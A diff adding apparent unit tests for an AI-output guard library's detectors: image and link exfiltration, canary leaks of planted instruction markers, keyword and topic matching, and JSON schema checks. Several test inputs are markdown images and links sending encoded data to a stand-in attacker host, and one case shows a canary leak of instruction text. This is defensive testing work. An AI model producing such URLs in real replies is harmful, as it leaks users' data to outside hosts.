@@ -1,0 +1,74 @@
+"""Exfiltration, canary, keyword lists and structured-output schemas."""
+
+from __future__ import annotations
+
+import pytest
+
+from tollhouse.guards.detector import CallState
+from tollhouse.guards.detectors.canary import CanaryDetector, canary_line, new_canary
+from tollhouse.guards.detectors.exfiltration import ExfiltrationDetector
+from tollhouse.guards.detectors.keywords import KeywordDetector
+from tollhouse.guards.detectors.schema import SchemaDetector, check_schema
+from tollhouse.guards.verdict import Scope
+
+EXFIL = ExfiltrationDetector(frozenset({"docs.example.com"}))
+
+
+def _kinds(
+    detector: object, text: str, state: CallState | None = None, scope: Scope = Scope.ASSISTANT
+) -> list[str]:
+    return [f.kind for f in detector.detect(text, scope, state or CallState())]  # type: ignore[attr-defined]
+
+
+@pytest.mark.parametrize(
+    ("text", "kinds"),
+    [
+        ("![x](https://evil.example/p.png?q=c2VjcmV0IGRhdGE)", ["image_exfiltration"]),
+        ('<img src="https://evil.example/a.gif?u=alice&k=123456">', ["image_exfiltration"]),
+        ("[click](https://evil.example/collect?data=dGhlIHVzZXIncyBzZWNyZXQ)", ["link_exfiltration"]),
+        ("![logo](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE)", ["data_url"]),
+        ("![ok](https://docs.example.com/a.png?v=123456789)", []),  # allowed host
+        ("[docs](https://python.org/3/library/re.html)", []),  # a plain link carries nothing
+        ("See ![chart](https://evil.example/chart.png)", []),  # no data in the URL
+    ],
+)
+def test_exfiltration(text: str, kinds: list[str]) -> None:
+    assert _kinds(EXFIL, text) == kinds
+
+
+def test_all_images_can_be_blocked() -> None:
+    strict = ExfiltrationDetector(frozenset(), block_all_images=True)
+    assert _kinds(strict, "![c](https://evil.example/chart.png)") == ["image_exfiltration"]
+
+
+def test_canary() -> None:
+    canary = new_canary()
+    state = CallState(canary=canary)
+    assert canary in canary_line(canary)
+    assert _kinds(CanaryDetector(), f"my instructions say {canary}", state) == ["canary_leak"]
+    assert _kinds(CanaryDetector(), f"the marker is {canary[10:]}", state) == ["canary_leak"]
+    assert _kinds(CanaryDetector(), "nothing here", state) == []
+    assert _kinds(CanaryDetector(), canary) == []  # no canary planted for this call
+
+
+def test_keywords_topics_patterns() -> None:
+    detector = KeywordDetector(
+        ["project falcon", "acme"], [r"\bINV-\d{6}\b"], {"weapons": ["rifle", "ammunition"]}
+    )
+    text = "Re: Project  Falcon for ACME, invoice INV-123456; no rifles (but a rifle)."
+    assert _kinds(detector, text) == ["keyword", "keyword", "topic:weapons", "pattern"]
+    assert _kinds(detector, "acmeville") == []
+
+
+def test_schema() -> None:
+    schema = {"type": "object", "properties": {"n": {"type": "integer"}}, "required": ["n"]}
+    fixed = SchemaDetector(schema)
+    assert _kinds(fixed, '{"n": 1}') == []
+    assert _kinds(fixed, '{"n": "x"}') == ["schema_violation"]
+    assert _kinds(fixed, "not json") == ["schema_not_json"]
+    assert _kinds(fixed, "not json", scope=Scope.USER) == []
+    requested = SchemaDetector()
+    assert _kinds(requested, "not json") == []  # nothing asked for
+    assert _kinds(requested, "{}", CallState(schema=schema)) == ["schema_violation"]
+    with pytest.raises(ValueError, match="invalid JSON schema"):
+        check_schema({"type": "no-such-type"})
